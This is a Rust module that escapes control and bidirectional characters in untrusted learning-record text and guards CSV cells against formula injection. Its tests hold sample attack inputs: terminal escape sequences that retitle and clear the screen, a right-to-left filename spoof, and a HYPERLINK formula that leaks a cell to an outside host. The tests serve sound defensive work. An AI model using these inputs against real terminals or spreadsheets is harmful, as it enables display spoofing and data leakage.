//! Plain text from an untrusted source (an LRS's statements: course titles, question names,
//! learners' comments; an LRS's error pages) on its way into the operator's tools, where a few
//! characters are commands rather than text: a terminal obeys escape sequences (retitle, clear,
//! recolour, move the cursor, overwrite a line with a carriage return), bidirectional overrides
//! make text read other than it is, and a spreadsheet evaluates a cell that starts like a formula.
//!
//! [`plain`] is the one function every such text goes through before the report holds it: its
//! output has no control character and no bidirectional control left, each shown instead as a
//! visible escape (`\u{1b}`), so nothing is silently lost. [`spreadsheet_cell`] is, on top of it,
//! what a CSV cell of text needs (OWASP's "CSV injection" rule).

use std::borrow::Cow;

/// Whether `c` acts on a terminal or on the direction of text instead of being shown: C0
/// controls (tab and line breaks included: a name is one line), DEL, C1 controls (a terminal may
/// take U+009B as "escape ["), and the Unicode bidirectional controls.
pub fn is_control(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
}

/// `text` with every control character (see [`is_control`]) written as a visible escape,
/// `\u{1b}` for ESC. Text without one is returned as it is.
pub fn plain(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_control) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if is_control(c) {
            out.push_str(&format!("\\u{{{:x}}}", c as u32));
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// [`plain`], for a text of several lines (a learner's comment): its line breaks are kept (`\r\n`
/// read as `\n`), every other control shown as an escape.
pub fn plain_lines(text: &str) -> String {
    text.replace("\r\n", "\n").split('\n').map(plain).collect::<Vec<_>>().join("\n")
}

/// The characters that make a spreadsheet read a cell as a formula when it starts with one
/// (OWASP: `=`, `+`, `-`, `@`, tab, carriage return), and their full-width forms, which some
/// spreadsheets read the same way.
fn starts_a_formula(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r' | '＝' | '＋' | '－' | '＠')
}

/// A text cell for a CSV file: [`plain`], and led by an apostrophe when it would start a formula,
/// so that a spreadsheet shows it as text (OWASP's rule). Only text cells go through here: the
/// figures stay numbers.
pub fn spreadsheet_cell(text: &str) -> Cow<'_, str> {
    let text = plain(text);
    if text.chars().next().is_some_and(starts_a_formula) {
        Cow::Owned(format!("'{text}"))
    } else {
        text
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn terminal_commands_show_as_escapes_and_ordinary_text_is_untouched() {
        let retitle_and_clear = "Cours\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}[31mrouge\rÉcrasé";
        assert_eq!(plain(retitle_and_clear), "Cours\\u{1b}]0;pwned\\u{7}\\u{1b}[2J\\u{1b}[31mrouge\\u{d}Écrasé");
        assert_eq!(plain("\u{9b}2J"), "\\u{9b}2J", "the one-byte CSI of C1");
        assert_eq!(plain("abc\u{202E}fdp.exe"), "abc\\u{202e}fdp.exe", "a right-to-left override");
        assert_eq!(plain("deux\nlignes\tet tab"), "deux\\u{a}lignes\\u{9}et tab", "a name is one line");
        assert!(matches!(plain("Découvrir les IA génératives — 2ᵉ édition 😀"), Cow::Borrowed(_)));
    }

    #[test]
    fn a_comment_keeps_its_lines_and_loses_its_commands() {
        assert_eq!(plain_lines("Bien.\r\nMerci\u{1b}[2J !\nFin"), "Bien.\nMerci\\u{1b}[2J !\nFin");
    }

    #[test]
    fn cells_that_would_start_a_formula_are_led_by_an_apostrophe() {
        assert_eq!(
            spreadsheet_cell("=HYPERLINK(\"https://x.example\"&A1,\"clic\")"),
            "'=HYPERLINK(\"https://x.example\"&A1,\"clic\")"
        );
        for formula in ["+1+1", "-2+3", "@SUM(A1)", "＝1+1"] {
            assert!(spreadsheet_cell(formula).starts_with('\''), "{formula}");
        }
        assert_eq!(spreadsheet_cell("\tcmd"), "\\u{9}cmd", "a tab is shown as an escape, which starts nothing");
        assert_eq!(spreadsheet_cell("Découvrir Parcours"), "Découvrir Parcours");
        assert_eq!(spreadsheet_cell("https://example.org/a=b"), "https://example.org/a=b");
    }

    proptest! {
        #[test]
        fn no_control_character_survives(text in any::<String>()) {
            let shown = plain(&text);
            prop_assert!(!shown.chars().any(is_control), "{:?}", shown);
            // Nothing is lost: without escapes to show, the text is the same.
            if !text.chars().any(is_control) {
                prop_assert_eq!(shown.as_ref(), text.as_str());
            }
        }

        #[test]
        fn no_cell_starts_a_formula(text in any::<String>()) {
            let cell = spreadsheet_cell(&text);
            prop_assert!(!cell.chars().next().is_some_and(starts_a_formula), "{:?}", cell);
            prop_assert!(!cell.chars().any(is_control), "{:?}", cell);
        }
    }
}
